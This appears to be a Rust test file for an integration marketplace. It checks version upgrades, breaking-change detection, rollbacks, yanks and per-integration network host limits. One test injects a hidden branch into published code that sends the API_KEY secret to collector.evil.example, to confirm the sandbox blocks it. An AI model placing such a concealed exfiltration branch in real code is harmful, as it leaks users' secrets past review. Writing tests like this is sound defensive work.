//! Installed copies over versions: a breaking change needs a major version, an upgrade needs the
//! new required values and keeps the others, a rollback of the action shows in the copy, a yank
//! flags it and stops new installs; an installed copy reaches only its `network.hosts`.

use super::{market_server, partner_and_reviewer, publish, submit, variant};
use crate::flows::ALL_SCOPES;
use crate::support::marketplace::{greeter, install_greeter, login, GREETER_CODE};
use crate::support::{assert_error, Db};
use serde_json::json;

async fn upgrades_rollbacks_and_yanks(db: Db) {
    let (server, _registry) = market_server(&db).await;
    let (_, partner, reviewer) = partner_and_reviewer(&server).await;
    publish(&partner, &reviewer, &variant(|_| {}, |c| c)).await;

    // A new required value without a major bump: checks_failed, breaking_change.
    let breaking = variant(
        |m| {
            m["version"] = json!("1.1.0");
            m["configuration"].as_array_mut().unwrap().push(json!({
                "name": "REPLY_TO", "label": "Reply to", "required": true, "type": "string"}));
        },
        |c| {
            c.replace(
                "to: event.configuration.TO_ADDRESS,",
                "to: event.configuration.TO_ADDRESS, replyTo: event.configuration.REPLY_TO,",
            )
        },
    );
    let (_, failed) = submit(&partner, &breaking).await;
    assert_eq!(failed["state"], "checks_failed", "{failed}");
    assert!(failed["report"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["code"] == "breaking_change"));

    // The same as 2.0.0 passes; a tenant on 1.0.0 upgrading must give REPLY_TO (422 naming it).
    let major = variant(
        |m| {
            m["version"] = json!("2.0.0");
            m["configuration"].as_array_mut().unwrap().push(json!({
                "name": "REPLY_TO", "label": "Reply to", "required": true, "type": "string"}));
        },
        |c| {
            c.replace(
                "to: event.configuration.TO_ADDRESS,",
                "to: event.configuration.TO_ADDRESS, replyTo: event.configuration.REPLY_TO,",
            )
        },
    );
    let (_, v2) = submit(&partner, &major).await;
    assert_eq!(v2["state"], "in_review", "{v2}");
    let v2_id = v2["id"].as_str().unwrap();
    let (status, material) = reviewer
        .get(&format!("/v1/marketplace/submissions/{v2_id}/review"))
        .await;
    assert_eq!(status, 200);
    assert_eq!(
        material["breaking_changes"],
        json!(["new required configuration REPLY_TO"])
    );
    assert!(material["code_diff"]
        .as_str()
        .unwrap()
        .contains("+    to: event.configuration.TO_ADDRESS, replyTo"));
    reviewer
        .post(
            &format!("/v1/marketplace/submissions/{v2_id}/review"),
            json!({"decision": "approve"}),
        )
        .await;

    let (_, acme) = server.tenant("acme", ALL_SCOPES).await;
    let install = json!({
        "integration": "ses-welcome-email", "version": "1.0.0",
        "secrets": {"AWS_SES_KEY": "AKIAEXAMPLE", "AWS_SES_SECRET": "s3cr3t-value"},
        "configuration": {"FROM_ADDRESS": "a@example.com", "TO_ADDRESS": "b@example.com"},
    });
    let (status, installed) = acme.post("/v1/integrations/installed", install).await;
    assert_eq!(status, 201, "{installed}");
    let path = format!(
        "/v1/integrations/installed/{}",
        installed["id"].as_str().unwrap()
    );
    let refused = acme.patch(&path, json!({"version": "2.0.0"})).await;
    assert_error(&refused, 422, "invalid_value", "configuration.REPLY_TO");
    let (status, upgraded) = acme
        .patch(
            &path,
            json!({"version": "2.0.0", "configuration": {"REPLY_TO": "c@example.com"}}),
        )
        .await;
    assert_eq!(status, 200, "{upgraded}");
    assert_eq!(upgraded["version"], "2.0.0");
    assert_eq!(
        upgraded["configuration"]["FROM_ADDRESS"], "a@example.com",
        "values are kept"
    );
    let action = upgraded["action_id"].as_str().unwrap();
    let (_, versions) = acme.get(&format!("/v1/actions/{action}/versions")).await;
    assert_eq!(
        versions["total"], 2,
        "every upgrade is a new action version: {versions}"
    );
    assert_eq!(upgraded["running_version"], "2.0.0");
    // Rolled back like any action: the copy says it runs 1.0.0 again; forward to 2.0.0 again.
    for (number, running) in [(1, "1.0.0"), (2, "2.0.0")] {
        let rollback = format!("/v1/actions/{action}/versions/{number}/deploy");
        let (status, rolled) = acme.post(&rollback, json!({})).await;
        assert_eq!(status, 201, "{rolled}");
        let (_, now) = acme.get(&path).await;
        assert_eq!(
            (now["version"].as_str(), now["running_version"].as_str()),
            (Some("2.0.0"), Some(running))
        );
    }

    // Yanked: no new installs, the installed copy is flagged.
    let (status, _) = partner
        .post(
            &format!("/v1/marketplace/submissions/{v2_id}/flags"),
            json!({"yanked": true}),
        )
        .await;
    assert_eq!(status, 200);
    let (_, flagged) = acme.get(&path).await;
    assert_eq!(flagged["yanked"], true, "{flagged}");
    let refused = acme
        .post(
            "/v1/integrations/installed",
            json!({"integration": "ses-welcome-email", "version": "2.0.0", "name": "again"}),
        )
        .await;
    assert_error(&refused, 422, "invalid_value", "version");
    assert!(!acme.all_responses().contains("s3cr3t-value"));
}

on_both_backends!(upgrades_rollbacks_and_yanks);

/// An installed copy reaches only its `network.hosts`, over HTTP: its code fetches another host
/// on a branch its own tests never take, so the checks pass; a dispatch that takes the branch
/// fails with the wrapper's refusal, and one that does not still completes.
async fn an_installed_copy_reaches_only_its_declared_hosts(db: Db) {
    let (server, _registry) = market_server(&db).await;
    let (_, partner, reviewer) = partner_and_reviewer(&server).await;
    let code = GREETER_CODE.replace(
        "{\n",
        "{\n  if (event.user.user_id === \"exfiltrate\") {\n    \
         await fetch(\"https://collector.evil.example/x?key=\" + event.secrets.API_KEY);\n  }\n",
    );
    assert_ne!(code, GREETER_CODE);
    let id = publish(&partner, &reviewer, &greeter(|_| {}, &code)).await;
    let (_, published) = partner
        .get(&format!("/v1/marketplace/submissions/{id}"))
        .await;
    assert_eq!(published["report"], json!([]), "{published}");

    let (_, acme) = server.tenant("acme", ALL_SCOPES).await;
    install_greeter(&acme, "1.0.0").await;
    let flow = login(&acme, "u1").await;
    assert_eq!(flow["status"], "completed", "{flow}");
    let flow = login(&acme, "exfiltrate").await;
    assert_eq!(flow["status"], "failed", "{flow}");
    assert_eq!(flow["effects"], json!([]), "{flow}");
    let message = flow["results"][0]["error"]["message"].as_str().unwrap();
    assert!(
        message.contains(
            "fetch to collector.evil.example is not allowed: the integration's network.hosts \
             are api.example.com"
        ),
        "{flow}"
    );
    assert!(!acme.all_responses().contains("acme-key"));
}

on_both_backends!(an_installed_copy_reaches_only_its_declared_hosts);
